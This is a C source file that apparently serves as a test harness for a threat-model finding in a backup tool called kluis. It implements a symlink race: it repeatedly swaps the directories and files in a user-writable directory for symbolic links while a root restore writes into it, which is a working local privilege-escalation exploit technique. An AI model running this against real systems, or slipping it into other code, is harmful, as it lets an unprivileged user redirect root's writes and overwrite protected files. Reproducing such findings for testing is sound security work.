/*
 * kluis-racer: the local unprivileged user of the threat model (issue #10
 * finding 3), racing a root `kluis restore --overwrite` that restores into
 * a directory this user can write (a home directory, say).
 *
 * usage: kluis-racer DIR DIRLINK FILELINK STOPFILE
 *
 * Until STOPFILE exists, it scans DIR over and over and swaps every
 * directory in it for a symbolic link to DIRLINK and every regular file for
 * one to FILELINK.  Each swap is atomic (renameat2 RENAME_EXCHANGE with a
 * link made beside it), so the name never goes missing: a restore that
 * resolves a path through DIR at any moment may meet the link.  The entry
 * swapped out is kept under a dot-name (never swapped again).  It holds no
 * key and no privilege: only write access to DIR, which root's restore is
 * filling.  Prints "swaps DIRS FILES" at the end.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define RACE_SECONDS_MAX 300

static unsigned long seq;

/* Replaces name in dfd by a link to to; 1 if swapped. */
static int
swap(int dfd, const char *name, const char *to)
{
	char tmp[64], old[64];

	snprintf(tmp, sizeof(tmp), ".racer-link-%lu", seq);
	snprintf(old, sizeof(old), ".racer-old-%lu", seq++);
	if (symlinkat(to, dfd, tmp) != 0)
		return 0;
	if (renameat2(dfd, tmp, dfd, name, RENAME_EXCHANGE) != 0) {
		unlinkat(dfd, tmp, 0);
		return 0;
	}
	(void)renameat(dfd, tmp, dfd, old);	/* keep what was there */
	return 1;
}

/* One pass over DIR; adds to the counts. */
static void
pass(int dfd, const char *dirlink, const char *filelink,
    unsigned long *dirs, unsigned long *files)
{
	struct dirent *de;
	struct stat st;
	DIR *d;
	int fd;

	if ((fd = openat(dfd, ".", O_RDONLY | O_DIRECTORY | O_CLOEXEC)) < 0)
		return;
	if ((d = fdopendir(fd)) == NULL) {
		close(fd);
		return;
	}
	while ((de = readdir(d)) != NULL) {
		if (de->d_name[0] == '.' ||
		    fstatat(dfd, de->d_name, &st, AT_SYMLINK_NOFOLLOW) != 0)
			continue;
		if (S_ISDIR(st.st_mode))
			*dirs += (unsigned long)swap(dfd, de->d_name, dirlink);
		else if (S_ISREG(st.st_mode))
			*files += (unsigned long)swap(dfd, de->d_name,
			    filelink);
	}
	closedir(d);
}

int
main(int argc, char **argv)
{
	unsigned long dirs = 0, files = 0;
	time_t end = time(NULL) + RACE_SECONDS_MAX;
	int dfd;

	if (argc != 5) {
		fprintf(stderr, "usage: kluis-racer DIR DIRLINK FILELINK "
		    "STOPFILE\n");
		return 2;
	}
	if ((dfd = open(argv[1], O_RDONLY | O_DIRECTORY | O_CLOEXEC)) < 0) {
		fprintf(stderr, "kluis-racer: %s: %s\n", argv[1],
		    strerror(errno));
		return 1;
	}
	while (access(argv[4], F_OK) != 0 && time(NULL) < end)
		pass(dfd, argv[2], argv[3], &dirs, &files);
	close(dfd);
	printf("swaps %lu %lu\n", dirs, files);
	return 0;
}
